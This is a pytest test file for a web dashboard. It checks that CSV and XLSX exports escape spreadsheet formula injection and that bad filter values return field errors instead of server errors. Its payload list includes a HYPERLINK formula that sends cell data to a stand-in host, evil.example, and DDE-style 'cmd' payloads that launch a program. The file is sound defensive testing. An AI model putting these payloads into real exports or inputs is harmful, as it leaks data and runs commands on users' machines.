"""Hostile input on the dashboard and its exports (issue 12): formula injection through the
real export routes, and bad filter values answered with a field error, never a 500.

On SQLite and PostgreSQL (PostgreSQL refuses NUL bytes and integers past 64 bits outright,
so without the checks at the edge these are 500s there)."""
from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from .sopdata import DPMK
from .test_dashboard_figures import NOW

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def app(services, demo):
    from webui import create_app
    services.runtime.clock = lambda: NOW
    return create_app(services=services, config={"TESTING": True, "WTF_CSRF_ENABLED": False,
                                                 "RATELIMIT_ENABLED": False})


@pytest.fixture
def login(app, services):
    passwords = json.loads((services.settings.data_dir / "demo-logins.json").read_text())

    def _login(username):
        client = app.test_client()
        assert client.post("/login", data={"username": username, "password": passwords[username]}).status_code == 302
        return client
    return _login


def test_exports_are_formula_safe(services, demo, login):
    ids = {services.runtime.start(demo["dpmk.penerima"], DPMK, subject): subject for subject in PAYLOADS}
    client = login("dpmk.kasubbag")

    r = client.get("/dashboard/export/drill.csv?figure=open")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data().decode("utf-8-sig")), delimiter=";"))
    subjects = {int(row[0]): row[1] for row in rows[1:]}
    assert subjects == {iid: "'" + text for iid, text in ids.items()}  # a leading quote: text, not a formula
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    r = client.get("/dashboard/export/drill.xlsx?figure=open")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.get_data())).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2))
    assert {c[0].value: c[1].value for c in cells} == ids  # the text exactly as typed ...
    assert {c[1].data_type for c in cells} == {"s"}  # ... as string cells, never formulas
    assert {c[0].data_type for c in cells} == {"n"}  # numbers stay numbers
    assert "<f>" not in _sheet_xml(r.get_data())


def _sheet_xml(xlsx: bytes) -> str:
    import zipfile
    return zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()


BAD = [
    ("start", "0001-01-01"), ("end", "9999-12-31"), ("start", "2026-02-30"), ("end", "kemarin"),
    ("page", str(2 ** 70)), ("officer", str(2 ** 70)), ("office", str(2 ** 70)), ("officer", "-1"),
    ("officer", "abc"), ("process", "dpmk\x00website"), ("step", "step1\x00"), ("process", "x" * 5000),
    ("weekday", "9"),
]
PAGES = ["/dashboard", "/dashboard/officers", "/dashboard/trends", "/dashboard/drill?figure=late"]
EXPORTS = ["/dashboard/export/overview.csv", "/dashboard/export/overview.xlsx", "/dashboard/export/drill.csv?figure=late"]


@pytest.mark.parametrize("user", ["dpmk.kasubbag", "admin"])
def test_bad_filters_are_field_errors_never_500(login, user):
    client = login(user)
    for url in PAGES + EXPORTS:
        for name, value in BAD:
            sep = "&" if "?" in url else "?"
            r = client.get(url + sep + _qs(name, value))
            assert r.status_code == 400, (url, name, value, r.status_code)
            html = r.get_data(as_text=True)
            if "/export/" in url or _refused_at_the_edge(value):
                # the error page names the field (NUL bytes, over-long values and numbers past
                # 64 bits are refused for every route before any view runs: webui/guards.py)
                assert name in html and 'id="dash-figures"' not in html, (url, name)
            else:  # the form again, the message beside the field, no figures
                assert 'class="field-error"' in html and 'id="dash-figures"' not in html, (url, name)
                if name in ("start", "end", "officer", "process", "step") or (name == "office" and user == "admin"):
                    assert f'id="err-{name}"' in html, (url, name)
    # the edges of what is allowed still work
    for url in PAGES + EXPORTS:
        sep = "&" if "?" in url else "?"
        assert client.get(url + sep + "start=2000-01-01&end=2099-12-31").status_code == 200, url


def _refused_at_the_edge(value: str) -> bool:
    from webui.guards import MAX_QUERY_VALUE, _past_64_bits
    return "\x00" in value or len(value) > MAX_QUERY_VALUE or _past_64_bits(value)


def _qs(name: str, value: str) -> str:
    from urllib.parse import urlencode
    return urlencode({name: value})
